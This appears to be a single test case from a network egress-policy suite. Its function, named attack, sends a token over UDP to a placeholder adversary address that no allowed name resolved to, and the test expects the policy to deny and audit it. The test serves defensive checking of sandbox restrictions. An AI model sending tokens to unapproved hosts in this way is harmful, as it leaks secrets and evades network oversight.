"""A datagram to an address that no name led to
The same by UDP.
policy: allowed-names
audit: explicitlyDeniedIP
proof: arrival
"""


def attack(at):
    at.udp().sendto(at.token, (at.FOE, at.PORT))
    return True
